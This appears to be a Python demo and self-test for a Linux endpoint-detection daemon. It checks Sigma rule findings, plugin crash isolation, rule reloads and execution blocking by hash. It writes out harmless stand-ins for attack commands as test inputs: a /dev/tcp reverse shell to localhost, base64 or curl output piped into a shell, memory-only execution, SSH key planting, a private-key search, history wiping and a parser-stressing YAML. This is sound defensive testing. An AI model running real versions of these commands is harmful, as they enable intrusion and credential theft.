#!/usr/bin/env python3
"""./run --demo: find, survive, reload, block; in a minute, without a terminal.

An instance of its own in a scratch folder: Sigma with a copy of the bundled rules, a bystander that
only counts, a solution that crashes, the allow-list with a policy of its own, and one that never answers.
What is blocked is blocked on a scratch file system.  Exit status 0 only if every line below came true.
"""
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time

STAGE = sys.argv[1]
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
SIGMA = f"{STAGE}/usr/libexec/ringfort/solutions/sigma"
ALLOWLIST = f"{STAGE}/usr/libexec/ringfort/solutions/allowlist"
DEADLINE_MS = 300
failures = []


def act(scratch):
    """Name, shell command, beginning of the title that must be found: harmless, in the scratch folder, each shaped like something bad."""
    return [
        ("a program in /dev/shm", "cp /bin/true /dev/shm/ringfort-demo && /dev/shm/ringfort-demo; rm -f /dev/shm/ringfort-demo",
         "Program Run From Shared Memory"),
        ("base64 piped into a shell", "sh -c 'echo dHJ1ZQo= | base64 -d | sh'",
         "Base64 Decoded Into a Shell or Interpreter"),
        ("a shell on /dev/tcp", "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' || true",
         "Shell Redirected to a Network Pseudo-Device"),
        ("LD_PRELOAD from a temporary folder", "LD_PRELOAD=/tmp/ringfort-demo-none.so /bin/true",
         "Library Forced Into a Program"),
        ("a program that exists only in memory", "python3 -c 'import os; f = os.memfd_create(\"x\"); os.write(f, open(\"/bin/true\", \"rb\").read()); os.execv(f\"/proc/self/fd/{f}\", [\"x\"])'",
         "Program Run From Anonymous Memory"),
        ("a terminal spawned by python", "python3 -c 'import pty; pty.spawn([\"/bin/true\"])'",
         "Terminal Made for a Shell by a Scripting Language"),
        ("a key planted", f"mkdir -p {scratch}/.ssh && touch {scratch}/.ssh/authorized_keys",
         "Keys for Logging In by SSH Changed"),
        ("accounts listed", "cat /etc/passwd >/dev/null",
         "List of Accounts Read by Command"),
        ("a shell from find", "find /dev/null -exec /bin/sh -c true ';'",
         "Shell Started by a Tool"),
        ("a set-user-id bit", f"cp /bin/true {scratch}/suid && chmod u+s {scratch}/suid",
         "Set-ID Bit Set"),
        ("history removed", f"touch {scratch}/.bash_history && rm {scratch}/.bash_history",
         "Shell History Cleared"),
        ("a coin miner's arguments", f"cp /bin/true {scratch}/worker && {scratch}/worker -o stratum+tcp://127.0.0.1:3333 -u x",
         "Arguments of a Coin Miner"),
        ("a download into a shell", "sh -c 'curl -s file:///dev/null | sh' || true",
         "Download Piped Into a Shell"),
        ("a file made immutable", f"touch {scratch}/fixed && chattr +i {scratch}/fixed; chattr -i {scratch}/fixed || true",
         "File Made Immutable"),
        ("private keys sought", f"grep -r 'PRIVATE KEY' {scratch}/.ssh || true",
         "Search for Private Keys"),
    ]


def say(text):
    print(text, flush=True)


def check(what, true, detail=""):
    say(f"  {'ok ' if true else 'NOT'} {what}" + (f": {detail}" if detail else ""))
    if not true:
        failures.append(f"{what} ({detail})" if detail else what)
    return true


class Instance:
    def __init__(self, base):
        self.base = base
        self.rules = f"{base}/rules"
        self.guarded = f"{base}/guarded"
        self.socket = f"{base}/run/control.sock"
        shutil.copytree(f"{SIGMA}/rules", self.rules)
        self.packages()
        self.guard()
        with open(f"{base}/ringfortd.yaml", "w") as f:
            f.write("solutions:\n"
                    f"  - name: sigma\n    package: {SIGMA}\n    content: [{self.rules}]\n"
                    f"  - name: bystander\n    package: {base}/packages/bystander\n"
                    f"  - name: crasher\n    package: {base}/packages/crasher\n"
                    f"  - name: allowlist\n    package: {ALLOWLIST}\n    content: [{base}/policy]\n"
                    "    authorize: [process.exec]\n"
                    f"  - name: sleeper\n    package: {base}/packages/sleeper\n    authorize: [process.exec]\n"
                    f"gate:\n  exec: [{self.guarded}]\n  deadline_ms: {DEADLINE_MS}\n")
        self.log = open(f"{base}/log", "w")
        self.daemon = subprocess.Popen(
            [f"{STAGE}/usr/sbin/ringfortd", "--config", f"{base}/ringfortd.yaml", "--state", f"{base}/state",
             "--runtime", f"{base}/run"], stdout=self.log, stderr=self.log)

    def packages(self):
        """Small solutions from the build: they are for showing, so they are not installed."""
        for name, program, arguments in (("bystander", "mirror", "[count]"), ("crasher", "bad", '[crash-nth, "2"]'),
                                         ("sleeper", "judge", "[hang]")):
            folder = f"{self.base}/packages/{name}"
            os.makedirs(folder)
            shutil.copy(f"{ROOT}/build/{'tests/solutions' if program == 'mirror' else 'kit/bad'}/{program}", folder)
            with open(f"{folder}/manifest.yaml", "w") as f:
                f.write(f"name: {name}\nvendor: Ringfort\nversion: 0.1.0\napi: 1\nexecutable: {program}\n"
                        f"arguments: {arguments}\nevents: [\"*\"]\nlimits: {{memory_mb: 64, pids: 4}}\n"
                        + ("authorize: [process.exec]\n" if name == "sleeper" else ""))

    def guard(self):
        """A file system of its own to decide on, two programs on it, and a policy against one of them."""
        os.mkdir(self.guarded)
        subprocess.run(["mount", "-t", "tmpfs", "-o", "mode=755", "tmpfs", self.guarded], check=True)
        shutil.copy("/bin/true", f"{self.guarded}/good")
        shutil.copy("/bin/true", f"{self.guarded}/bad")
        with open(f"{self.guarded}/bad", "ab") as f:
            f.write(b"what makes it bad")
        with open(f"{self.guarded}/bad", "rb") as f:
            digest = hashlib.sha256(f.read()).hexdigest()
        os.mkdir(f"{self.base}/policy")
        with open(f"{self.base}/policy/demo.yaml", "w") as f:
            f.write(f"rules:\n  - id: known-bad\n    action: deny\n    sha256: {digest}\n    reason: for the demo\n"
                    "  - id: everything-else\n    action: allow\n    path: /\n    foreign_ns: true\n")

    def unguard(self):
        subprocess.run(["umount", "-l", self.guarded], stderr=subprocess.DEVNULL)

    def ringfort(self, *arguments):
        return subprocess.run([f"{STAGE}/usr/bin/ringfort", "--socket", self.socket, *arguments],
                              stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60)

    def gate_ready(self, n):
        answer = self.ringfort("gate", "status", "--json").stdout
        gate = json.loads(answer) if answer.startswith("{") else {"marks": 0}
        return gate["marks"] and sum("process.exec" in s["acts"] for s in gate["solutions"]) == n

    def status(self):
        answer = self.ringfort("status", "--json")
        return json.loads(answer.stdout) if answer.stdout.startswith("{") else None

    def reasons(self, path):
        lines = self.ringfort("why", path, "--json").stdout.splitlines()
        return json.loads(lines[0])["reasons"] if lines else []

    def solution(self, name):
        status = self.status()
        return next((s for s in status["solutions"] if s["name"] == name), None) if status else None

    def findings(self):
        return [json.loads(line) for line in self.ringfort("findings", "--json").stdout.splitlines()]

    def wait(self, condition, seconds):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            if condition():
                return True
            if self.daemon.poll() is not None:
                return False
            time.sleep(0.1)
        return bool(condition())

    def stop(self):
        self.daemon.send_signal(signal.SIGTERM)
        try:
            return self.daemon.wait(10)
        except subprocess.TimeoutExpired:
            self.daemon.kill()
            return self.daemon.wait()


def sh(command):
    subprocess.run(["/bin/bash", "-c", command], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL)


def brief(finding):
    ours = finding["ringfort"]
    return f"{ours['level']:13} {ours['title']}"


def find(instance, scratch):
    say("\n1. Suspicious acts, all harmless:")
    for name, command, title in act(scratch):
        before = len(instance.findings())
        sh(command)

        def found():
            return next((f for f in instance.findings()[before:] if f["ringfort"]["title"].startswith(title)), None)

        instance.wait(found, 5)
        finding = found()
        check(name, finding, brief(finding) if finding else "not found")


def crash(instance):
    say("\n2. A solution crashes, again and again, until it is suspended:")
    instance.wait(lambda: instance.solution("crasher")["state"] == "suspended", 5)
    crasher, bystander, sigma = (instance.solution(n) for n in ("crasher", "bystander", "sigma"))
    check("the crasher", crasher["state"] == "suspended" and crasher["restarts"] > 0,
          f"{crasher['state']}, {crasher['restarts']} restarts, {crasher['why']}")
    check("its neighbour", bystander["state"] == "active" and bystander["restarts"] == 0 and bystander["lost"] == 0,
          f"{bystander['delivered']} events delivered, {bystander['lost']} lost")
    check("sigma", sigma["state"] == "active" and sigma["restarts"] == 0, f"{sigma['findings']} findings so far")


BROKEN = """title: A rule with a typing mistake
id: 5b1f8e0a-0000-4000-8000-00000000b0b0
logsource: {product: linux, category: process_creation}
detection:
  selection:
    CommandLine|containz: x
  condition: selection
level: high
"""
GOOD = """title: A marker was run
id: 5b1f8e0a-0000-4000-8000-00000000600d
author: the demo
logsource: {product: linux, category: process_creation}
detection:
  selection:
    CommandLine|contains: ringfort-demo-marker
  condition: selection
level: low
"""


def write(path, text):
    with open(path, "w") as f:
        f.write(text)


def reload(instance):
    say("\n3. A broken and a hostile rule, then a reload:")
    write(f"{instance.rules}/broken.yml", BROKEN)
    # Half a million open brackets: quadratic work for the parser beneath.
    write(f"{instance.rules}/hostile.yml", "detection: " + "[" * 200000)
    pid = instance.solution("sigma")["pid"]
    answer = instance.ringfort("reload", "sigma")
    text = answer.stdout + answer.stderr
    check("they are refused", answer.returncode == 1 and "broken.yml" in text,
          next((line.strip() for line in text.splitlines() if "broken.yml" in line), text.strip()[:200]))
    check("the hostile one is named as well", "hostile.yml" in text,
          next((line.strip()[:150] for line in text.splitlines() if "hostile.yml" in line), ""))
    before = len(instance.findings())
    sh("base64 -d </dev/null | sh")
    sh("sh -c 'echo dHJ1ZQo= | base64 -d | sh #again'")
    check("the running rules stay, findings go on",
          instance.wait(lambda: len(instance.findings()) > before, 5) and instance.solution("sigma")["pid"] == pid,
          f"sigma is still process {pid}")
    os.unlink(f"{instance.rules}/broken.yml")
    os.unlink(f"{instance.rules}/hostile.yml")
    write(f"{instance.rules}/marker.yml", GOOD)
    answer = instance.ringfort("reload", "sigma")
    check("good rules are taken", answer.returncode == 0, (answer.stdout + answer.stderr).strip()[:200])
    sh("/bin/true ringfort-demo-marker")
    check("and find", instance.wait(
        lambda: any(f["ringfort"]["title"] == "A marker was run" for f in instance.findings()), 5))


def execute(path):
    """Whether it may run, and the seconds that this took."""
    began = time.monotonic()
    try:
        subprocess.run([path], timeout=10)
        return True, time.monotonic() - began
    except PermissionError:
        return False, time.monotonic() - began


def block(instance):
    say("\n4. A program that may not run, decided by one solution, beside one that never answers:")
    bad, good = f"{instance.guarded}/bad", f"{instance.guarded}/good"
    check("both are asked before something runs", instance.wait(lambda: instance.gate_ready(2), 5))
    ran, _ = execute(bad)
    # The gate answers first and writes after.
    instance.wait(lambda: instance.reasons(bad), 3)
    reasons = instance.reasons(bad)
    check("it is denied", not ran and any(r["solution"] == "allowlist" and r["answer"] == "deny" for r in reasons),
          ", ".join(f"{r['solution']}: {r['answer']}" for r in reasons))
    shutil.copy(bad, f"{instance.guarded}/renamed")
    check("so is a copy of another name", not execute(f"{instance.guarded}/renamed")[0])
    ran, seconds = execute(good)
    check("its neighbour runs, later by the deadline at most", ran and seconds < DEADLINE_MS / 1000 + 1,
          f"after {1000 * seconds:.0f} ms")
    for _ in range(4):
        execute(good)
    ran, seconds = execute(good)
    check("then nobody waits for the one that never answers", ran and seconds < DEADLINE_MS / 1000,
          f"after {1000 * seconds:.1f} ms")
    check("the finding", instance.wait(lambda: any(f["ringfort"]["rule_id"] == "known-bad" for f in instance.findings()), 3),
          next((brief(f) for f in instance.findings() if f["ringfort"]["rule_id"] == "known-bad"), ""))


def account(instance):
    say("\n5. What was lost:")
    status = instance.status()
    check("in the kernel and the daemon", status["events"]["lost"] == 0,
          f"{status['events']['lost']} of {status['events']['performed']} events")
    for name in ("sigma", "bystander"):
        solution = instance.solution(name)
        check(f"by {name}", solution["lost"] == 0, f"{solution['lost']}, {solution['delivered']} delivered")


def main():
    began = time.monotonic()
    os.umask(0o022)  # solutions are other users, and read what is written here
    base = tempfile.mkdtemp(prefix="ringfort-demo-")
    os.chmod(base, 0o755)
    scratch = f"{base}/scratch"
    os.mkdir(scratch)
    instance = Instance(base)
    try:
        if not instance.wait(lambda: (instance.solution("sigma") or {}).get("state") == "active", 20):
            check("ringfortd and the Sigma solution start", False)
            return 1
        say(f"ringfortd is up with {len(instance.status()['solutions'])} solutions after "
            f"{time.monotonic() - began:.1f} s")
        find(instance, scratch)
        crash(instance)
        reload(instance)
        block(instance)
        account(instance)
    except Exception as error:
        check("the demo itself", False, repr(error))
    finally:
        result = instance.stop()
        instance.unguard()
        left = "its runtime folder" if os.path.exists(f"{base}/run") else ""
        check("nothing is left", result == 0 and not left, left or f"status {result}")
        if failures:
            say(open(f"{base}/log").read())
        sh(f"chattr -i {scratch}/fixed")
        shutil.rmtree(base, ignore_errors=True)
    say(f"\n{'everything came true' if not failures else 'NOT true: ' + ', '.join(failures)} "
        f"({time.monotonic() - began:.0f} s)")
    return 1 if failures else 0


signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))
sys.exit(main())
